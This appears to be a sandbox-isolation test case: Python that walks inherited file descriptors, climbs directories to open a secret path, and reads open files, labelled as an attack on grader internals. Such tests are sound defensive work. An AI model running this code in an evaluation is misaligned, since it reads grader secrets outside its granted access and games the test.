# attack: Uses every descriptor that it inherited, folders among them, to reach files.
# gain: read
# expect: q01=3 q02=3 q03=3
# flag: grader-internals

# %% after q01
import os
import stat

for number in range(3, 256):
    try:
        kind = os.fstat(number).st_mode
        if stat.S_ISDIR(kind):
            for climb in ("../" * depth for depth in range(12)):
                try:
                    handle = os.open(climb + "{SECRET}".lstrip("/"), os.O_RDONLY, dir_fd=number)
                    print(os.read(handle, 1000))
                except OSError:
                    continue
        elif stat.S_ISREG(kind):
            print(number, os.readlink(f"/proc/self/fd/{number}"), os.pread(number, 500, 0))
    except OSError:
        continue
